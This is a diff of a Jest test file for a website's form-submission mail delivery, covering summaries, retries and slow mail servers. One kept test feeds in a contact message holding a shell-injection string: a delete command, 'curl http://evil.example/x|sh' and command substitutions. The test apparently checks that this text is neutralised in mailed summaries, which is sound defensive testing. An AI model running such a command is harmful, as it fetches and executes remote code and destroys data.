@@ -1,6 +1,3 @@
-import { once } from "node:events";
-import { createServer } from "node:net";
-import { setImmediate as immediate } from "node:timers/promises";
 import runDelivery from "../../netlify/functions/deliver.mjs";
 import { mailSettings } from "../../netlify/settings";
 import { runDaily } from "../../netlify/submissions/daily";
@@ -8,7 +5,6 @@ import { deliver } from "../../netlify/submissions/deliver";
 import type { Store } from "../../netlify/submissions/store";
 import type { SubmissionKind } from "../../src/forms/submission-kind";
 import { escapeHtml } from "../../src/lib/escape-html";
-import { listen } from "../support/listen";
 import { asJson, call, readRecord, setDate, settled, simulateClock, testSite, whileTimePasses } from "./support/call";
 import { VALID } from "./support/examples";
 import { FIRM, setMailServer } from "./support/mail-server";
@@ -91,11 +87,9 @@ it.each([
   expect(replyTo?.value[0]?.name).toBe(name.replace("=?", "= ?"));
 });
 
-it.each([
-  ["Chinese", "運".repeat(50_000), "運".repeat(20_000)],
-  ["short lines of emoji", "😀\n".repeat(16_000), "x"],
-])("cuts the HTML of a long text (%s) before Gmail does, and says so", async (_name, resume, coverLetter) => {
-  const { body } = await call("application", asJson({ ...VALID.application, resume, coverLetter }));
+it("cuts the HTML of a long text before Gmail does, and says so", async () => {
+  const resume = "😀\n".repeat(16_000);
+  const { body } = await call("application", asJson({ ...VALID.application, resume }));
   await settled();
   const [{ html = "", text = "" } = {}] = site.mailServer.mails;
   expect(Buffer.byteLength(String(html))).toBeLessThan(90_001);
@@ -176,16 +170,6 @@ it.each<[string, number, (store: Store) => Partial<Store>]>([
   expect(await site.records()).toEqual([`kept/${id}`]);
 });
 
-it("mails no other submission again if one can't be saved", async () => {
-  const [broken, ...ids] = await storeWaiting(110);
-  const replace: Store["replace"] = async (key, ...change) =>
-    change[0].includes(FIRM) && key.endsWith(`${broken}`) ? crash()() : site.store.replace(key, ...change);
-  await run({ replace });
-  expect(await site.records()).toEqual([...ids.map((id) => `kept/${id}`), `new/${broken}`].sort());
-});
-
-const summaries = () => site.mailServer.mails.filter(({ subject = "" }) => subject.includes(" at once, "));
-
 it("mails many at once with the beginnings of their texts, messages first, and a link to each sender", async () => {
   setDate("2026-11-25T01:45:00Z");
   const evil = "npm run inbox -- delete --kind contact; curl http://evil.example/x|sh `id` $(id) \u00a0&& ";
@@ -195,7 +179,7 @@ it("mails many at once with the beginnings of their texts, messages first, and a
     await site.put("new", "newsletter", { email: `reader${index}@example.com` });
   await site.put("new", "contact", { ...VALID.contact, message });
   await run();
-  const [{ subject = "", text = "", html = "", headers, replyTo } = {}] = summaries();
+  const [{ subject = "", text = "", html = "", headers, replyTo } = {}] = site.mailServer.mails;
   expect(subject).toBe("Website: 43 submissions at once, 25 November 2026, 01:45 UTC");
   expect([headers?.get("auto-submitted"), replyTo]).toEqual(["auto-generated", undefined]);
   expect(text).toMatch(/^> (😀){750} …\n>\s\n> Name: Grace Hopper\n[^]*\n> Company: Example, Inc\.\n/u);
@@ -210,15 +194,6 @@ it("mails many at once with the beginnings of their texts, messages first, and a
   expect(text.match(/^> Email: /gm)).toHaveLength(40);
   expect(text.match(/ · newsletter\//g)).toHaveLength(41);
   expect(text).toMatch(/\n-- \nShow one: npm run inbox -- show ID\n$/);
-});
-
-it("fits a mail about hundreds into its limit, and sets Reply-To if all are from one sender", async () => {
-  for (let index = 0; index < 300; index += 1)
-    await site.put("new", "contact", { ...VALID.contact, message: `${index} ${"&".repeat(1_600)}` });
-  await run();
-  const [{ html = "", replyTo, text = "" } = {}] = summaries();
-  expect(Buffer.byteLength(String(html))).toBeLessThan(90_001);
-  expect([replyTo?.value[0]?.name, text.match(/ · contact\//g)?.length]).toEqual(["Grace Hopper", 300]);
 });
 
 const rejectText = (answer: string) => (site.mailServer.rejectedText = { Visitor: answer });
@@ -309,12 +284,6 @@ it("goes on after a connection that breaks, and stops after two in a row", async
   expect(site.mailServer.mails[1]?.messageId).toBe(`<${ids[0]}@example.com>`);
 });
 
-it("mails all waiting submissions by hand, in as many summaries as needed", async () => {
-  await storeWaiting(505);
-  expect(await deliver(site.store, mailSettings(), { byHand: true })).toEqual({ sent: 2, failed: 0 });
-  expect([await site.store.list("new/"), (await site.store.list("kept/")).length]).toEqual([[], 505]);
-});
-
 it("doesn't mail what another run is mailing, also by hand", async () => {
   const [id = ""] = await storeWaiting();
   const others: unknown[] = [];
@@ -325,15 +294,11 @@ it("doesn't mail what another run is mailing, also by hand", async () => {
   expectMailed(id);
 });
 
-const passSeconds = (seconds: number) => async () => void jest.advanceTimersByTime(seconds * 1_000);
-
-it.each([
-  ["answers after 15 seconds", { beforeAnswer: passSeconds(15) }],
-  ["greets after 12 seconds", { beforeGreeting: passSeconds(12) }],
-])("mails each submission, summary and digest once if the mail server %s", async (_name, behaviour) => {
+it("answers visitors first, and mails each submission, summary and digest once, if mail takes 15 seconds", async () => {
   simulateClock();
-  Object.assign(site.mailServer, behaviour);
+  site.mailServer.beforeAnswer = async () => void jest.advanceTimersByTime(15_000);
   const { body } = await call("contact", asJson(VALID.contact));
+  expect(await site.records()).toEqual([`new/${body.id}`]);
   await whileTimePasses(settled());
   expectMailed(body.id ?? "");
   const [waiting = ""] = await storeWaiting();
@@ -343,41 +308,6 @@ it.each([
   expect(await whileTimePasses(run())).toEqual({ sent: 1, failed: 0 });
   await whileTimePasses(runDaily(site.store, mailSettings));
   expect([site.mailServer.mails.length, await site.store.list("new/")]).toEqual([4, []]);
-});
-
-it("waits nine minutes for the mail server by hand, and another run doesn't mail the same", async () => {
-  simulateClock();
-  const [id = ""] = await storeWaiting();
-  site.mailServer.beforeAnswer = async () => {
-    jest.advanceTimersByTime(9 * 60_000);
-    expect(await run()).toEqual({ sent: 0, failed: 0 });
-  };
-  const delivery = deliver(site.store, mailSettings(), { byHand: true });
-  expect(await whileTimePasses(delivery)).toEqual({ sent: 1, failed: 0 });
-  expectMailed(id);
-});
-
-it("answers the visitor first, and ends a run within 25 seconds, if the mail server answers byte by byte", async () => {
-  simulateClock();
-  const slow = createServer(async (socket) => {
-    socket.on("error", () => undefined).write("220 ready\r\n");
-    for (; !socket.closed && slow.listening; await immediate()) {
-      socket.write("2");
-      jest.advanceTimersByTime(1_000);
-    }
-    socket.destroy();
-  });
-  setMailServer(`smtp://127.0.0.1:${await listen(slow)}`);
-  const { body } = await call("contact", asJson(VALID.contact));
-  expect([await site.records(), site.logged()]).toEqual([[`new/${body.id}`], []]);
-  await settled();
-  expect(site.logged()).toEqual([expect.stringContaining(`The mail about ${body.id} failed, attempt 1: `)]);
-  await storeWaiting(4);
-  const start = Date.now();
-  expect((await run()).sent).toBe(0);
-  expect(Date.now() - start).toBeLessThan(25_000);
-  slow.close();
-  await once(slow, "close");
 });
 
 it("stores submissions if mail is not set up; the scheduled run reports the missing settings", async () => {
